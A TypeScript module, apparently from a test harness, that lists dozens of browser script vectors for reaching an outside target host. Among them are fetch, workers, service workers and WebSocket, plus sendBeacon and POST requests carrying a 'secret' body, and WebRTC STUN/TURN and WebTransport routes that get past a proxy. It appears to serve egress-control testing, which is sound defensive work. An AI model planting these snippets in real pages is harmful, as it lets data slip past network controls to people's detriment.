import type { Target, Vector } from './egress-vectors.js';

/*
 * Ways that need script. The press has none; they are for what is left when somebody gets it to
 * run: the proxy.
 */

/** Scripts that the page's own origin has to serve. */
const scriptAddress = (code: string) => `/js?${encodeURIComponent(code).replaceAll("'", '%27')}`;

const run =
  (code: (to: Target) => string): Vector['html'] =>
  (to) =>
    `<script>{${code(to)}}</script>`;

const from = (control: Vector['control'], codes: Record<string, (to: Target) => string>) =>
  Object.entries(codes).map(([name, code]): Vector => ({ name, html: run(code), control }));

const blob = (code: string, type = 'text/javascript') =>
  `URL.createObjectURL(new Blob([${JSON.stringify(code)}],{type:'${type}'}))`;

/** Candidates for a peer at the target; `protocol` as in RFC 8839 § 5.1. */
const peer = (to: Target, protocol: 'udp' | 'tcp') => {
  const host = to.authority.replace(/:\d+$/, '').replace(/^\[|\]$/g, '');
  const port = /\d+$/.exec(to.authority)?.[0];
  const kind = protocol === 'tcp' ? 'typ host tcptype passive' : 'typ host';
  return `(async()=>{const a=new RTCPeerConnection(),b=new RTCPeerConnection();
a.createDataChannel('x');await a.setLocalDescription();await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription();await a.setRemoteDescription(b.localDescription);
await a.addIceCandidate({candidate:'candidate:1 1 ${protocol} 2130706431 ${host} ${port} ${kind}',sdpMLineIndex:0});})()`;
};

const ice = (url: string) =>
  `const p=new RTCPeerConnection({iceServers:[{urls:'${url}',username:'u',credential:'c'}]});p.createDataChannel('x');p.setLocalDescription()`;

/** Into a frame of its own. */
const submit = (attributes: string) =>
  `const f=document.createElement('iframe');document.currentScript.after(f);
f.contentDocument.body.innerHTML='<form ${attributes}><input name="a"></form>';f.contentDocument.forms[0].submit()`;

const requests = from('allowed', {
  fetch: (to) => `fetch('${to.http}/x',{mode:'no-cors',keepalive:true})`,
  'fetch with credentials': (to) => `fetch('${to.http}/x',{credentials:'include'})`,
  XMLHttpRequest: (to) => `const x=new XMLHttpRequest();x.open('GET','${to.http}/x');x.send()`,
  EventSource: (to) => `new EventSource('${to.http}/x')`,
  'new Image': (to) => `new Image().src='${to.http}/x'`,
  'new Audio': (to) => `new Audio('${to.http}/x').load()`,
  FontFace: (to) => `new FontFace('x','url(${to.http}/x)').load()`,
  'script element': (to) => `document.write('<script src="${to.http}/x"></'+'script>')`,
  'module import': (to) => `import('${to.http}/x')`,
  WebSocket: (to) => `new WebSocket('${to.ws}/x')`,
  'WebSocket over TLS': (to) => `new WebSocket('${to.wss}/x')`,
  'blob: frame': (to) =>
    `const f=document.createElement('iframe');f.src=${blob(`<img src="${to.http}/x">`, 'text/html')};document.currentScript.after(f)`,
  'XSLT in a blob:': (to) =>
    `const f=document.createElement('iframe');f.src=${blob(`<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${to.http}/x"?><a/>`, 'text/xml')};document.currentScript.after(f)`,
  Worker: (to) => `new Worker(${blob(`fetch('${to.http}/x',{mode:'no-cors'})`)})`,
  importScripts: (to) => `new Worker(${blob(`importScripts('${to.http}/x')`)})`,
  'WebSocket in a Worker': (to) => `new Worker(${blob(`new WebSocket('${to.ws}/x')`)})`,
  SharedWorker: (to) => `new SharedWorker(${blob(`fetch('${to.http}/x',{mode:'no-cors'})`)})`,
  ServiceWorker: (to) =>
    `navigator.serviceWorker.register('${scriptAddress(`fetch('${to.http}/x',{mode:'no-cors'})`)}',{scope:'/'+${JSON.stringify(to.authority)}})`,
  'cache.add': (to) =>
    `caches.open('x').then((c)=>c.add(new Request('${to.http}/x',{mode:'no-cors'})))`,
  'audio worklet': (to) => `new AudioContext().audioWorklet.addModule('${to.http}/x')`,
  'location in a frame': (to) =>
    `const f=document.createElement('iframe');document.currentScript.after(f);f.contentWindow.location='${to.http}/x'`,
  'form by GET in a frame': (to) => submit(`action="${to.http}/x"`),
});

const posts = from('open', {
  sendBeacon: (to) => `navigator.sendBeacon('${to.http}/x','secret')`,
  'fetch by POST': (to) => `fetch('${to.http}/x',{method:'POST',mode:'no-cors',body:'secret'})`,
  'fetch with preflight': (to) => `fetch('${to.http}/x',{headers:{'x-a':'1'}})`,
  'form by POST in a frame': (to) => submit(`method="post" action="${to.http}/x"`),
  'ping that is clicked': (to) =>
    `const a=document.createElement('a');a.href='#x';a.ping='${to.http}/x';a.click()`,
});

/** Over UDP, of which a proxy knows nothing. */
const packets = from('open', {
  'WebRTC by STUN': (to) => ice(`stun:${to.authority}`),
  'WebRTC by TURN over UDP': (to) => ice(`turn:${to.authority}?transport=udp`),
  WebTransport: (to) => `new WebTransport('${to.https}/x')`,
  'WebRTC to a peer by UDP': (to) => peer(to, 'udp'),
}).map((vector) => ({ ...vector, isSilent: true as const }));

const sockets = from('allowed', {
  'WebRTC by TURN over TCP': (to) => ice(`turn:${to.authority}?transport=tcp`),
  'WebRTC by TURN over TLS': (to) => ice(`turns:${to.authority}?transport=tcp`),
  'WebRTC to a peer by TCP': (to) => peer(to, 'tcp'),
});

/** Markup that asks only where script would be run. */
const scripts: Vector[] = Object.entries({
  'preload script': (to: Target) => `<link rel="preload" as="script" href="${to.http}/x">`,
  modulepreload: (to: Target) => `<link rel="modulepreload" href="${to.http}/x">`,
  'svg script': (to: Target) => `<svg><script href="${to.http}/x"></script></svg>`,
}).map(([name, html]) => ({ name, html, control: 'allowed' }));

const speculation = (kind: string) => (to: Target) =>
  `<script type="speculationrules">{"${kind}":[{"source":"list","urls":["${to.http}/x"],"eagerness":"immediate"}]}</script>`;

const alone: Vector[] = [
  { name: 'window.open', html: run((to) => `open('${to.http}/x')`), control: 'allowed' },
  {
    name: 'fetchLater',
    html: run((to) => `fetchLater('${to.https}/x',{activateAfter:0})`),
    control: 'allowed',
  },
  { name: 'location', html: run((to) => `location='${to.http}/x'`), control: 'allowed' },
  ...['prefetch', 'prerender'].map(
    (kind): Vector => ({
      ...{ name: `speculative ${kind}`, html: speculation(kind), control: 'open', isSilent: true },
    }),
  ),
];

export const SCRIPT_VECTORS: readonly Vector[] = [
  ...packets,
  ...sockets.map((vector) => ({ ...vector, isPlain: true as const })),
  ...requests,
  ...scripts,
  ...posts,
  ...alone.map((vector) => ({ ...vector, alone: true as const })),
];
